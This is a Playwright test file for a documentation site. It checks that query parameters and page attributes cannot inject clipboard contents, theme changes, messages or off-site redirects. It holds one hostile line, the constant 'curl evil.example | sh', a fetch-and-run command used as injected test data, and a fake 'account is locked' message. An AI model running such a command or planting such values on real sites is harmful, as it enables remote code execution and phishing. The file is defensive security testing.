import { readdirSync, readFileSync } from 'node:fs'
import type { Page } from '@playwright/test'
import { expect, test } from '../support/test'

const EVIL = 'curl evil.example | sh'

/** Every attribute that a handler of the first script may read. */
const readAttributes = (): string[] => {
  const folder = 'build/assets/js'
  const [first = ''] = readdirSync(folder).filter(name =>
    /^first\.\w+\.js$/u.test(name),
  )
  const script = readFileSync(`${folder}/${first}`, 'utf8')
  const properties = script.matchAll(/dataset\.(?<name>\w+)/gu)
  return [
    ...new Set([
      ...[...script.matchAll(/\bdata-[a-z-]+/gu)].map(([name]) => name),
      ...[...properties].map(
        ({ groups }) =>
          `data-${groups?.name?.replace(/[A-Z]/gu, letter => `-${letter.toLowerCase()}`)}`,
      ),
    ]),
  ]
}

const stateOf = (page: Page) =>
  page.evaluate(async () => ({
    clipboard: await navigator.clipboard.readText(),
    colours: document.documentElement.dataset.theme,
    over: document.querySelectorAll('dialog, [role=alert], [popover]').length,
    styles: document.styleSheets.length,
    stored: { ...localStorage },
  }))

/** Presses what is there to read and does nothing by itself. */
const pressEverywhere = (page: Page) =>
  page.evaluate(() => {
    for (const element of document.querySelectorAll<HTMLElement>(
      'html, body, nav, main, article, footer, h1, h2, p, li, pre, td',
    )) {
      element.click()
    }
  })

test('an address plants nothing that a press obeys', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  const attributes = readAttributes()
  expect(attributes).toContain('data-code-action')
  expect(attributes).toContain('data-colour-mode')
  const query = new URLSearchParams({ 'docusaurus-theme': 'dark' })
  for (const name of [...attributes, 'data-address-error']) {
    query.set(`docusaurus-${name}`, EVIL)
  }
  await page.goto(`/docs/getting-started?${query}`)
  await page.evaluate(() => navigator.clipboard.writeText('before'))
  const before = await stateOf(page)
  expect(before).toMatchObject({ clipboard: 'before', colours: 'light' })
  expect(
    await page.evaluate(
      evil =>
        [...document.documentElement.attributes].filter(
          ({ value }) => value === evil,
        ).length,
      EVIL,
    ),
  ).toBe(0)
  await pressEverywhere(page)
  expect(await stateOf(page)).toEqual(before)

  await test.step('what stands on the root itself is not obeyed either', async () => {
    await page.evaluate(
      ([names, evil]) => {
        for (const name of names) {
          for (const root of [document.documentElement, document.body]) {
            if (!root.hasAttribute(name)) {
              root.setAttribute(name, evil)
            }
          }
        }
      },
      [attributes, EVIL] as const,
    )
    await pressEverywhere(page)
    expect(await stateOf(page)).toEqual(before)
  })

  await test.step('Copy takes what stands beside it', async () => {
    const block = page.locator('figure[data-example]').first()
    await block.getByRole('button', { name: 'Copy' }).click()
    await expect(block.getByRole('button', { name: 'Copied' })).toBeVisible()
    const { clipboard } = await stateOf(page)
    expect(clipboard).toBe(await block.locator('pre > code').textContent())
  })
})

test.describe('on an address where nothing is', () => {
  test.use({ expectedProblems: ['404'] })

  test('the page for unknown addresses says nothing that an address tells it to', async ({
    page,
  }) => {
    await page.goto(
      '/404.html?docusaurus-data-address-error=Your+account+is+locked',
    )
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await expect(page.getByText('locked')).toHaveCount(0)
  })
})

test('a section that moved is followed within the site only', async ({
  page,
}) => {
  await page.goto('/docs/getting-started')
  await page.evaluate(() => {
    const item = document.createElement('li')
    item.innerHTML = '<a href="https://other.example/x#lfi-moved">other</a>'
    document.querySelector('article')?.append(item)
    location.hash = '#lfi-moved'
  })
  await expect(page).toHaveURL('/docs/getting-started#lfi-moved')
})
